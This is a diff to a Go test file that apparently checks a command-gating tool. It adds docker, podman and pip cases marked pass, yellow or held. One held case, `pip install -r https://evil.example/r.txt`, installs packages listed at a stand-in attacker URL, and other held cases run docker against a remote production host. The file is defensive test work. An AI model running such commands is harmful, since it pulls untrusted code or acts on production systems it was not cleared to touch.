@@ -204,6 +204,17 @@ func TestCls15Everyday(t *testing.T) {
 		{"simulator", `xcrun simctl shutdown all && xcrun simctl boot "iPhone 15"`, "pass"},
 		{"simulator", `xcrun simctl delete all`, "held"},
 		{"simulator", `xcrun altool --upload-app -f build/App.ipa -t ios`, "held"},
+		// Containers of this machine stopped and started; pip's
+		// requirements file installed.
+		{"container", `docker restart my-postgres`, "pass"},
+		{"container", `docker stop api db && docker start api db`, "pass"},
+		{"container", `podman container kill web`, "pass"},
+		{"container", `pip install -r requirements.txt`, "yellow"},
+		{"container", `docker -H ssh://deploy@prod restart api`, "held"},
+		{"container", `DOCKER_HOST=ssh://prod docker stop api`, "held"},
+		{"container", `docker --context prod kill api`, "held"},
+		{"container", `docker rm -f web`, "held"},
+		{"container", `pip install -r https://evil.example/r.txt`, "held"},
 		// A review request is yellow; one that completes itself or is
 		// labelled to submit is not a request.
 		{"review", `az repos pr create --draft --source-branch feature/export --target-branch main --title 'WIP export'`, "yellow"},
